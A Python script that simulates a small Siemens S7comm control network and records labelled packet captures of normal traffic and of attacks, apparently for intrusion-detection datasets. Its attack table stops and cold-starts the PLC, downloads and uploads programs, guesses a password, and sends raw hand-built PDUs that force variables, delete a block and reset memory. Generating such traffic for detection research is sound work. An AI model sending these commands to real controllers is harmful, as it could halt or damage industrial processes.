"""Record a small plant that speaks S7comm: a PLC, its HMI, an engineering station, and a rogue.

Run as root, with `requirements/s7.txt` installed: `python replay/s7.py s7-normal`, or
`s7-attacks`.
Server and clients are python-snap7's; the other commands run one of them on its host.
"""

from __future__ import annotations

import argparse
import logging
import os
import random
import signal
import sys
import tempfile
import time
from datetime import UTC, datetime
from pathlib import Path
from typing import TYPE_CHECKING

from plant.devices import Host
from plant.network import Network, NetworkError, stop
from record import (
    FOLDER,
    Label,
    RecordingError,
    compress,
    start_capture,
    wait_for_line,
    write_labels,
)
from snap7.client import Client
from snap7.server import Server
from snap7.type import Area, SrvArea, WordLen

if TYPE_CHECKING:
    from collections.abc import Callable

PLC = Host("plc", "10.40.1.11", "00:1c:06:12:9c:11")
HMI = Host("hmi", "10.40.2.10", "00:0c:29:3a:41:10")
ENGINEERING = Host("engineering", "10.40.2.30", "00:0c:29:3a:41:30")
ROGUE = Host("rogue", "10.40.2.66", "b8:27:eb:5d:c0:66")

SECONDS = 75.0
POLL = 0.5
LIMIT = 60.0
"""How long past its work a process may live."""

# A table of a programming device that modifies MD0, MW4 and I8.1, as STEP 7 sends it, but forced.
FORCE = bytes.fromhex(
    "32070000fe01000800440001120411410900"
    "ff0900400014002800000001000100060001000100010001000102000003030100000000"
    "02010000000410010000000800090004"
    "4133851f00090002dead000900010100"
)
# Block DB7; the library builds another form of it, which controllers do not have.
DELETE = bytes.fromhex("32010000fe03001a000028000000000000fd000a0100") + b"0A00007B\x05_DELE"
MEMORY_RESET = bytes.fromhex("32070000fe02000800040001120411410c000a000000")


def connect(rack: int = 0, slot: int = 2) -> Client:
    """Connect to the PLC."""
    client = Client()
    client.connect(PLC.address, rack, slot)
    return client


def plc() -> None:
    """Serve a data block, flags, inputs and outputs whose values move."""
    server = Server(log=False)
    areas = {
        (SrvArea.DB, 1): bytearray(64),
        (SrvArea.MK, 0): bytearray(32),
        (SrvArea.PE, 0): bytearray(16),
        (SrvArea.PA, 0): bytearray(16),
        (SrvArea.TM, 0): bytearray(16),
        (SrvArea.CT, 0): bytearray(16),
    }
    for (area, number), memory in areas.items():
        server.register_area(area, number, memory)
    server.start_to(PLC.address)
    print("ready", flush=True)
    deadline = time.monotonic() + SECONDS + LIMIT
    while time.monotonic() < deadline:
        time.sleep(0.1)


def hmi(seed: int) -> None:
    """Poll twice a second; every few seconds an operator sets a set point or switches a pump."""
    dice = random.Random(seed)
    client = connect()
    begin = time.monotonic()
    for turn in range(int(SECONDS / POLL)):
        time.sleep(max(0.0, begin + turn * POLL - time.monotonic()))
        client.db_read(1, 0, 16)
        client.read_area(Area.MK, 0, 0, 4)
        client.read_area(Area.PA, 0, 0, 2, WordLen.Word)
        if turn % 7 == 3:
            client.db_write_real(1, 8, dice.choice([20.0, 25.0, 30.0, 35.0]))
        if turn % 9 == 5:
            client.write_area(Area.MK, 0, 10, bytearray([dice.choice([0, 1])]), WordLen.Bit)
    client.disconnect()


def engineering() -> None:
    """Look at the PLC, as a technician does."""
    time.sleep(10)
    client = connect()
    client.get_order_code()
    client.get_cpu_info()
    client.get_cpu_state()
    client.list_blocks()
    client.get_plc_datetime()
    client.disconnect()


def _raw(data: bytes) -> Callable[[Client], object]:
    return lambda client: client.iso_exchange_buffer(bytearray(data))


ATTACKS: dict[str, tuple[Host, Callable[[Client], object]]] = {
    "rogue-device": (ROGUE, lambda client: client.get_cpu_info()),
    "upload": (ROGUE, lambda client: client.upload(1)),
    "write-from-new-client": (ROGUE, lambda client: client.db_write_real(1, 8, 99.0)),
    "password": (ROGUE, lambda client: client.set_session_password("siemens")),
    "set-clock": (
        ENGINEERING,
        lambda client: client.set_plc_datetime(datetime(2003, 2, 1, tzinfo=UTC)),
    ),
    "force": (ENGINEERING, _raw(FORCE)),
    "stop": (ROGUE, lambda client: client.plc_stop()),
    "download": (ROGUE, lambda client: client.download(bytearray(64), 1)),
    "delete-block": (ROGUE, _raw(DELETE)),
    "copy-ram-to-rom": (ROGUE, lambda client: client.copy_ram_to_rom()),
    "compress": (ROGUE, lambda client: client.compress(1000)),
    "memory-reset": (ROGUE, _raw(MEMORY_RESET)),
    "cold-start": (ROGUE, lambda client: client.plc_cold_start()),
}


def attack(label: str) -> None:
    """Do one of the attacks, and print when it began and ended."""
    begin = time.time()
    client = connect()
    try:
        ATTACKS[label][1](client)
    except Exception as error:  # noqa: BLE001
        # A refusal is an answer; the wire shows it.
        logging.getLogger(__name__).info("%s: %s", label, error)
    client.disconnect()
    print(begin, time.time(), flush=True)


def command(*words: str) -> list[str]:
    """Command line of one of the hosts' parts."""
    return [sys.executable, str(Path(__file__).resolve()), *words]


def run(name: str, path: Path) -> list[Label]:
    """Let the plant work and capture it to `path`; the labels of what happened."""
    has_attacks = name == "s7-attacks"
    labels: list[Label] = []
    hosts = (PLC, HMI, ENGINEERING, ROGUE) if has_attacks else (PLC, HMI, ENGINEERING)
    with Network(name, hosts) as network:
        wait_for_line(network.start("plc", command("plc"), FOLDER), "the PLC")
        capture = start_capture(network, path, SECONDS + LIMIT)
        seed = "2" if has_attacks else "1"
        clients = [
            network.start("hmi", command("hmi", "--seed", seed), FOLDER),
            network.start("engineering", command("engineering"), FOLDER),
        ]
        zero = time.monotonic()
        for place, (label, (host, _)) in enumerate(ATTACKS.items() if has_attacks else ()):
            time.sleep(max(0.0, zero + 16 + 4 * place - time.monotonic()))
            process = network.start(host.name, command("attack", label), FOLDER)
            begin, end = map(float, wait_for_line(process, label).split())
            labels.append(Label(begin, end, label))
        for client in clients:
            if client.wait(timeout=SECONDS + LIMIT):
                message = "a client failed"
                raise RecordingError(message)
        time.sleep(2)
        stop(capture)
    return labels


def main() -> int:
    """Record a scenario, or run one host's part."""
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument(
        "what", choices=("s7-normal", "s7-attacks", "plc", "hmi", "engineering", "attack")
    )
    parser.add_argument("label", nargs="?", default="")
    parser.add_argument("--seed", type=int, default=1)
    parser.add_argument("--output", type=Path, help="default: captures/SCENARIO")
    options = parser.parse_args()
    parts: dict[str, Callable[[], None]] = {
        "plc": plc,
        "hmi": lambda: hmi(options.seed),
        "engineering": engineering,
        "attack": lambda: attack(options.label),
    }
    if options.what in parts:
        parts[options.what]()
        return 0
    if os.geteuid() != 0:
        print("s7.py: network namespaces need root", file=sys.stderr)
        return 2
    # Ending it must delete the namespaces too.
    signal.signal(signal.SIGTERM, lambda *_: sys.exit(2))
    output: Path = options.output or FOLDER / "captures" / options.what
    output.mkdir(parents=True, exist_ok=True)
    with tempfile.TemporaryDirectory() as folder:
        capture = Path(folder) / "capture.pcap"
        try:
            labels = run(options.what, capture)
        except (RecordingError, NetworkError) as error:
            print(f"s7.py: {options.what}: {error}", file=sys.stderr)
            return 2
        compress(capture, output / f"{options.what}.pcap.gz")
    write_labels(output / "labels.csv", labels)
    return 0


if __name__ == "__main__":
    sys.exit(main())
